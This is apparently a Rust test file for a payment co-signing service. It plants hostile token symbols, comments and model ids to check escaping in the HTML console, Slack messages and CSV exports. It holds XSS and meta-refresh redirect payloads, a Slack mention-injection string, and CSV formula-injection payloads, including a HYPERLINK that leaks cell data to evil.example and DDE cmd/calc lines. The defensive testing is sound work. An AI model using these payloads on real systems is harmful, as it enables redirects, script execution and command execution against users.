//! What an attacker controls reaches people as text, never as markup, mentions or formulas.
//! A token's deployer chooses its `symbol()` and `name()` (here: code planted on a real Anvil
//! whose every getter answers a hostile string), an agent chooses its model ids, an approver
//! writes comments. The console (HTML and its SVG chart), the Slack notifications and the CSV
//! exports each escape them for where they land.

use std::sync::Arc;

use alloy::{
    providers::{DynProvider, Provider, ProviderBuilder},
    sol_types::{SolCall, SolValue},
};
use axum::http::StatusCode;
use chaperone_api::Payment;
use chaperone_chain::{Devnet, TestToken};
use chaperone_core::{
    Address, B256, Bytes, Call, CommitmentKind, Execute, Opening, Record, SignedBatch, U256,
};
use chaperone_server::{
    AppState, LogConfig, Metrics, Notifier, Webhook, WebhookFormat, WebhookSender, app,
};
use chaperone_testkit::{devnet, signed_cosign_json};
use serde_json::{Value, json};

use crate::{
    ADMIN, AUDITOR, NOW, Service, TestAgent, call, call_text,
    cosign::register_wallet,
    service,
    webhooks::{receiver, webhook},
};

/// Anvil's chain, where the test wallet is registered.
const CHAIN_ID: u64 = 31337;
/// A symbol that closes the console's SVG chart and redirects the page elsewhere.
pub(crate) const MARKUP_SYMBOL: &str =
    r#"</svg><meta http-equiv="refresh" content="0;url=https://evil.example">"#;
/// A symbol that pings the whole Slack channel, starts a line of its own and links elsewhere.
const SLACK_SYMBOL: &str = "<!channel>\n<https://evil.example|Open in the console>";
/// An approver's comment, and an agent's model id, that would be markup.
pub(crate) const COMMENT: &str = "<img src=x onerror=alert(1)>";
pub(crate) const MODEL: &str = "<script>alert(1)</script>";

/// Runtime code answering `decimals()` with 6 and any other call (`symbol()`, `name()`) with
/// `text` ABI-encoded: no artifact lets a test choose a token's symbol, so it is hand-assembled.
fn token_code(text: &str) -> Vec<u8> {
    let answer = (text.to_owned(),).abi_encode_params();
    let decimals = TestToken::decimalsCall::SELECTOR;
    let len = u16::try_from(answer.len()).unwrap().to_be_bytes();
    #[rustfmt::skip]
    let mut code = vec![
        0x60, 0x00, 0x35, 0x60, 0xe0, 0x1c,      // PUSH1 0 CALLDATALOAD PUSH1 224 SHR: selector
        0x63, decimals[0], decimals[1], decimals[2], decimals[3], // PUSH4 decimals()
        0x14, 0x60, 0x1b, 0x57,                  // EQ PUSH1 0x1b JUMPI
        0x61, len[0], len[1], 0x80, 0x60, 0x26,  // PUSH2 len DUP1 PUSH1 0x26 (the answer's offset)
        0x60, 0x00, 0x39, 0x60, 0x00, 0xf3,      // PUSH1 0 CODECOPY PUSH1 0 RETURN: the string
        0x5b, 0x60, 0x06, 0x60, 0x00, 0x52,      // 0x1b: JUMPDEST PUSH1 6 PUSH1 0 MSTORE
        0x60, 0x20, 0x60, 0x00, 0xf3,            // PUSH1 32 PUSH1 0 RETURN: 6 decimals
    ];
    assert_eq!(code.len(), 0x26);
    code.extend_from_slice(&answer);
    code
}

/// A service that reads token symbols from a real Anvil holding a token named `symbol`.
pub(crate) struct Hostile {
    _devnet: Devnet,
    pub(crate) s: Service,
    pub(crate) token: Address,
}

/// With `webhook`, decisions are notified through it.
pub(crate) async fn hostile(symbol: &str, webhook: Option<&Webhook>) -> Hostile {
    let devnet = devnet();
    assert_eq!(devnet.chain_id(), CHAIN_ID);
    let provider: DynProvider = ProviderBuilder::new()
        .connect_http(devnet.rpc_url().parse().unwrap())
        .erased();
    let token = Address::repeat_byte(0xe7);
    provider
        .raw_request::<_, Value>(
            "anvil_setCode".into(),
            (token, Bytes::from(token_code(symbol))),
        )
        .await
        .unwrap();
    assert_eq!(
        TestToken::new(token, &provider)
            .symbol()
            .call()
            .await
            .unwrap(),
        symbol,
        "the planted token answers its symbol"
    );
    let s = service().await;
    // Only the provider matters here: the console reads symbols through the log's chain.
    let log = LogConfig::anchored(
        CHAIN_ID,
        s.cosigner.clone(),
        provider,
        Address::ZERO,
        B256::ZERO,
    );
    let mut state =
        AppState::with_clock(s.store.clone(), s.cosigner.clone(), CHAIN_ID, crate::clock)
            .with_log(log, Arc::new(Metrics::default()));
    if let Some(webhook) = webhook {
        let notifier = Notifier::new(s.store.clone(), webhook.clone());
        state = state.with_notifier(Arc::new(notifier));
    }
    let s = Service {
        router: app(state),
        ..s
    };
    register_wallet(&s).await;
    // 1000 per payment and 5000 a day of the hostile token; a human above 500.
    let policy = json!({
        "version": 1,
        "chains": [CHAIN_ID],
        "limits": [{ "token": token, "per_transaction": "1000", "windows": [{ "window": "24h", "max": "5000" }] }],
        "approval": { "expires_after": "10m", "above": [{ "token": token, "amount": "500" }] },
    });
    let uri = format!("/v1/admin/wallets/{}/policy", s.wallet);
    let (status, body) = call(
        &s.router,
        "PUT",
        &uri,
        Some(ADMIN),
        Some(policy.to_string()),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    Hostile {
        _devnet: devnet,
        s,
        token,
    }
}

impl Hostile {
    /// The agent asks to pay `amount` of the hostile token.
    pub(crate) async fn pay(&self, amount: u64, nonce: u64) -> (StatusCode, Value) {
        let transfer = TestToken::transferCall {
            to: Address::repeat_byte(0xb0),
            value: U256::from(amount),
        };
        let execute = Execute {
            calls: vec![Call {
                to: self.token,
                value: U256::ZERO,
                data: transfer.abi_encode().into(),
            }],
            nonce: U256::from(nonce),
            validUntil: NOW + 60,
        };
        let body = signed_cosign_json(
            &self.s.agent,
            CHAIN_ID,
            self.s.wallet,
            Payment::Execute(execute),
        );
        call(
            &self.s.router,
            "POST",
            "/v1/cosign",
            None,
            Some(body.to_string()),
        )
        .await
    }
}

/// Records of `agent` with these model ids, signed as one batch, and ingested.
pub(crate) async fn log_models(s: &Service, agent: &mut TestAgent, models: &[&str]) -> Vec<B256> {
    let records: Vec<Record> = models
        .iter()
        .map(|model| {
            let commit = |kind| {
                Opening::new(kind, b"content".to_vec())
                    .unwrap()
                    .commitment()
            };
            let record = Record {
                agent: agent.key.address(),
                sequence: agent.sequence,
                timestamp_ms: NOW * 1000 + agent.sequence,
                model: (*model).to_owned(),
                input: commit(CommitmentKind::Input),
                output: commit(CommitmentKind::Output),
                metadata: None,
                previous: agent.previous,
            };
            agent.previous = record.leaf_hash().unwrap();
            agent.sequence += 1;
            record
        })
        .collect();
    let leaves = records.iter().map(|r| r.leaf_hash().unwrap()).collect();
    let batch = SignedBatch::sign(records, &agent.key).unwrap();
    let (status, body) = call(
        &s.router,
        "POST",
        "/v1/records",
        None,
        Some(serde_json::to_string(&batch).unwrap()),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    leaves
}

/// A console page as the admin sees it.
async fn console_page(s: &Service, uri: &str) -> String {
    let cookie = crate::login(&s.router, ADMIN).await;
    let (status, _, html) = crate::get_with_cookie(&s.router, uri, &cookie).await;
    assert_eq!(status, StatusCode::OK, "{uri}");
    html
}

#[tokio::test]
async fn every_console_page_shows_hostile_symbols_comments_and_models_as_text() {
    let h = hostile(MARKUP_SYMBOL, None).await;
    let s = &h.s;
    // A payment a human denied with a comment, one waiting, one over the cap, one approved.
    let (status, pending) = h.pay(600, 0).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{pending}");
    let id: B256 = pending["request_id"].as_str().unwrap().parse().unwrap();
    s.store
        .resolve_approval(id, false, "alice", Some(COMMENT), NOW)
        .await
        .unwrap();
    assert_eq!(h.pay(700, 1).await.0, StatusCode::ACCEPTED);
    assert_eq!(h.pay(2000, 2).await.0, StatusCode::FORBIDDEN);
    assert_eq!(h.pay(100, 3).await.0, StatusCode::OK);
    let mut agent = TestAgent::registered(&s.store).await;
    let leaves = log_models(s, &mut agent, &[MODEL]).await;

    let agent_address = agent.key.address();
    let pages = [
        "/login".to_owned(),
        "/approvals".into(),
        "/decisions".into(),
        format!("/decisions?wallet={}", s.wallet),
        "/spend".into(),
        "/audit".into(),
        format!("/audit/agents/{agent_address}"),
        format!("/audit/records/{}", leaves[0]),
        "/audit/verify".into(),
        "/policies".into(),
        format!("/policies/{}", s.wallet),
        "/webhooks".into(),
        "/agents".into(),
        "/alerts".into(),
        "/alerts/freeze".into(),
    ];
    for uri in &pages {
        let html = console_page(s, uri).await;
        for injected in ["<meta http-equiv", "</svg><meta", "<script", "<img"] {
            assert!(
                !html.contains(injected),
                "{uri} carries the markup `{injected}` unescaped:\n{html}"
            );
        }
    }
    // The hostile text is there, as text, and the token's address stands beside its symbol.
    let symbol = "&lt;/svg&gt;&lt;meta http-equiv=&quot;refresh&quot;";
    for uri in ["/approvals", "/decisions", "/spend"] {
        let html = console_page(s, uri).await;
        assert!(html.contains(symbol), "{uri} shows the symbol:\n{html}");
        assert!(
            html.contains(&h.token.to_string()),
            "{uri} shows the token's address beside its symbol:\n{html}"
        );
    }
    // Symbols are cut to 32 characters when read from the chain.
    let spend = console_page(s, "/spend").await;
    assert!(
        spend.contains(&format!("{symbol}…")) && !spend.contains("evil.example"),
        "the symbol is cut at 32 characters:\n{spend}"
    );
    let decisions = console_page(s, "/decisions").await;
    assert!(decisions.contains("&lt;img src=x onerror=alert(1)&gt;"));
    let record = console_page(s, &format!("/audit/records/{}", leaves[0])).await;
    assert!(record.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[tokio::test]
async fn slack_notifications_quote_hostile_symbols_without_mentions_lines_or_links() {
    let (receiver, url) = receiver(0).await;
    let hook = webhook(&url, WebhookFormat::Slack);
    let h = hostile(SLACK_SYMBOL, Some(&hook)).await;
    assert_eq!(h.pay(600, 0).await.0, StatusCode::ACCEPTED);
    assert_eq!(h.pay(2000, 1).await.0, StatusCode::FORBIDDEN);
    let sender = WebhookSender::new(h.s.store.clone(), hook);
    assert_eq!(sender.tick(NOW).await.unwrap(), 2);

    let got = receiver.got.lock().unwrap().clone();
    for (_, body) in &got {
        let message: Value = serde_json::from_str(body).unwrap();
        let text = message["text"].as_str().unwrap();
        assert!(!text.contains("<!channel>"), "a mention from data:\n{text}");
        assert!(
            text.contains("&lt;!channel&gt;"),
            "the symbol is quoted:\n{text}"
        );
        // Our own lines only: the headline, one per reason, the link.
        let lines: Vec<&str> = text.lines().collect();
        assert!(lines[0].starts_with("*Chaperone* "), "{text}");
        assert!(
            lines[1..lines.len() - 1]
                .iter()
                .all(|l| l.starts_with("• ")),
            "a line from data:\n{text}"
        );
        assert!(
            lines[lines.len() - 1].starts_with("<https://console.example/"),
            "{text}"
        );
        assert_eq!(
            text.matches('<').count(),
            1,
            "the console's link is the only link:\n{text}"
        );
    }
}

/// The cells of a CSV text (RFC 4180), as a spreadsheet reads them.
pub(crate) fn cells(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, csv.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (_, '"') => quoted = !quoted,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (_, c) => cell.push(c),
        }
    }
    rows
}

#[tokio::test]
async fn csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas() {
    let formulas = [
        r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let s = service().await;
    let mut agent = TestAgent::registered(&s.store).await;
    let mut models = formulas.to_vec();
    models.push("model-a");
    log_models(&s, &mut agent, &models).await;

    let uri = format!("/v1/agents/{}/records?format=csv", agent.key.address());
    let (status, csv, _, _) = call_text(&s.router, &uri, AUDITOR).await;
    assert_eq!(status, StatusCode::OK);
    let rows = cells(&csv);
    let column = rows[0].iter().position(|c| c == "model").unwrap();
    let shown: Vec<&str> = rows[1..].iter().map(|r| r[column].as_str()).collect();
    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
    expected.push("model-a".into());
    assert_eq!(shown, expected, "formulas are quoted as text:\n{csv}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}\n{csv}"
            );
        }
    }
    // Numbers and hashes are untouched.
    assert_eq!(rows[1][0], "0");
}
